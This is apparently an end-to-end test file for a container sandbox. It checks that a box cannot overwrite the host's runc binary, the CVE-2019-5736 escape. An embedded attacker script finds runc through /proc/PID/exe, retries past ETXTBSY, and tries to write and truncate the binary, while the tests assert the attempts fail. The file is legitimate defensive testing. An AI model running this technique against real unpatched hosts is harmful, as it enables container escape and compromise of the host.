"""CVE-2019-5736 on the oci backend: a box must never be able to write the runc that started it.

reprobox starts runc from a sealed in-memory copy (:func:`reprobox.oci.runtime.sealed_copy`),
so that ``runc init`` skips making its own copy. The attack: a process of the box finds a runc
process running inside the box (here a ``runc exec`` of ``/proc/self/exe``, which is how the
original exploit got the host's runc executed in a container), opens ``/proc/PID/exe``, and
tries to write and truncate the binary behind it. The control, in the same attacker: the same
open-then-reopen-for-writing works on an ordinary file, so only the seals stopped it.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import subprocess
import time
from collections.abc import Iterator

import pytest

from reprobox.engine import connect
from reprobox.oci import runtime as rt
from reprobox.oci.box import Launched, make_setup
from reprobox.sandbox import Policy, Sandbox
from reprobox.sandbox.spec import container_spec
from tests.e2e.oci_support import my_leftovers, require_oci_tools

pytestmark = pytest.mark.e2e

PROBE = "reprobox-cve-probe"
ATTACKER = r"""
import json, os, time
F_GET_SEALS = 1034
os.makedirs("/tmp/b")
os.mkfifo("/tmp/b/config.json")  # the probe runc blocks reading its config from here
found, deadline = {}, time.time() + 30
while not found and time.time() < deadline:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                probe = f.read().split(b"\0")[-2:-1] == [b"PROBE"]
            fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY) if probe else -1
        except OSError as exc:
            found = {"open": repr(exc)} if probe else found
            continue
        if fd < 0:
            continue
        head = os.pread(fd, 4, 0)
        found = {"elf": head == b"\x7fELF", "size": os.fstat(fd).st_size}
        import fcntl
        try:
            found["seals"] = fcntl.fcntl(fd, F_GET_SEALS)
        except OSError as exc:
            found["seals"] = repr(exc)
        with open("/tmp/b/config.json", "w"):
            pass  # lets the probe runc go (it fails on an empty config) ...
        # While any runc started from that binary runs (the probe, the `runc exec` on the host
        # that waits for it) the kernel refuses to open it for writing (ETXTBSY): the exploit
        # keeps its read-only descriptor and retries until they have exited.
        until = time.time() + 20
        while True:
            try:
                w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
            except OSError as exc:
                if exc.errno == 26 and time.time() < until:
                    time.sleep(0.01)
                    continue
                found["write"] = found["truncate"] = exc.errno
                break
            try:
                os.pwrite(w, b"pwned", 0)
                found["write"] = "written"
            except OSError as exc:
                found["write"] = exc.errno
            try:
                os.ftruncate(w, 0)
                found["truncate"] = "truncated"
            except OSError as exc:
                found["truncate"] = exc.errno
            break
        break
with open("/tmp/ctl", "wb") as f:
    f.write(b"x" * 8)
ctl = os.open("/tmp/ctl", os.O_RDONLY)
w = os.open(f"/proc/self/fd/{ctl}", os.O_WRONLY)
found["control"] = os.pwrite(w, b"pwned", 0) == 5 and open("/tmp/ctl", "rb").read(5) == b"pwned"
with open("/tmp/report.tmp", "w") as f:
    json.dump(found, f)
os.rename("/tmp/report.tmp", "/tmp/report.json")
time.sleep(120)  # the box lives on (holding the binary open) until the test is done
""".replace("PROBE", PROBE)


def sha256(path: str) -> str:
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def exec_in(box: Launched, user: str, *cmd: str) -> subprocess.CompletedProcess[bytes]:
    """``runc exec`` as reprobox runs it (from the sealed copy): the command itself, no shell."""
    runtime = box.setup.runtime
    argv = [*runtime.argv(), "exec", "--user", user, box.box_id, *cmd]
    proc = rt.spawn(runtime, argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out, err = proc.communicate(timeout=60)
    return subprocess.CompletedProcess(argv, proc.returncode, out, err)


# /proc/self/exe, run by runc init itself, is the binary runc init runs from: the exploit's way
# to get runc executed inside the box. It then blocks on the attacker's FIFO.
PROBE_ARGV = ("/proc/self/exe", "--root", "/tmp/r", "run", "--bundle", "/tmp/b", PROBE)


@contextlib.contextmanager
def attacker_box(image: str, user: str, **policy: object) -> Iterator[Launched]:
    """A box whose main process is the attacker, started with ``run --detach`` (as a session
    box is): no runc on the host waits for it, so once the probe is over nothing runs from the
    binary it reached, and only that binary's own protection stands in its way."""
    chosen = Policy().relaxed(timeout_s=60.0, **policy)
    spec = container_spec(image, chosen, ["true"])
    setup = make_setup(image, spec, chosen, lambda: connect(lite=True))
    box = Launched.create(setup, ("python3", "-c", ATTACKER), user, 60.0)
    try:
        with (box.bundle.path / "start.log").open("wb") as err:
            started = rt.quiet_to(
                [*setup.runtime_argv(), "run", "--detach", "--bundle", str(box.bundle.path),
                 box.box_id],
                err,
                runtime=setup.runtime,
            )  # fmt: skip
        assert started == 0, (box.bundle.path / "start.log").read_text()
        yield box
    finally:
        box.kill()
        rt.delete(setup.runtime, box.box_id, setup.network)
        box.remove()


def probe(box: Launched, user: str) -> subprocess.CompletedProcess[bytes]:
    """Run the probe once the attacker has made its FIFO."""
    for _ in range(100):
        done = exec_in(box, user, *PROBE_ARGV)
        if b"no such file" not in done.stderr.lower():
            return done
        time.sleep(0.1)
    raise AssertionError("the attacker never made its FIFO")


def test_the_box_user_cannot_even_run_the_runc_that_started_it(base_image: str) -> None:
    require_oci_tools()
    before = sha256(rt.find_runtime("runc").path)
    with attacker_box(base_image, "65534:65534") as box:
        done = probe(box, "65534:65534")
        control = exec_in(box, "65534:65534", "/usr/bin/true")  # a binary it may run
    assert done.returncode != 0 and b"permission denied" in done.stderr.lower(), done.stderr
    assert control.returncode == 0, control.stderr
    assert sha256(rt.find_runtime("runc").path) == before
    assert my_leftovers() == []


def test_root_in_the_box_cannot_write_the_runc_that_started_it(base_image: str) -> None:
    """The strongest box there is: root with CAP_DAC_OVERRIDE, which opens the binary."""
    require_oci_tools()
    user = "0:0"
    with attacker_box(base_image, user, add_capabilities=("DAC_OVERRIDE",)) as box:
        runtime = box.setup.runtime
        before = sha256(runtime.path)
        assert probe(box, user).returncode != 0  # it ran, and failed on the empty config
        report = None
        for _ in range(60):  # each exec runs the binary too, which keeps it busy: gaps between
            time.sleep(0.5)
            shown = exec_in(box, user, "cat", "/tmp/report.json")
            if shown.returncode == 0:
                report = json.loads(shown.stdout)
                break
        # The attacker now holds the binary open for writing (so it is busy): another box of
        # the same owner still starts, from runc's own binary.
        other = Sandbox(base_image, Policy(), backend="oci").run(["echo", "still up"])
    assert report is not None, "the attack never ran"
    with open(runtime.path, "rb") as f:
        size = len(f.read())
    assert "open" not in report, report  # it did reach the binary of the runc in the box
    assert report["elf"] and report["size"] == size
    assert report["seals"] == rt.RUNC_SEALS  # the sealed copy reprobox started runc from
    assert report["write"] == errno.EPERM and report["truncate"] == errno.EPERM, report
    assert report["control"] is True  # the same technique writes an ordinary file
    assert other.exit_code == 0 and other.stdout_text == "still up\n"
    assert sha256(runtime.path) == before
    assert my_leftovers() == []
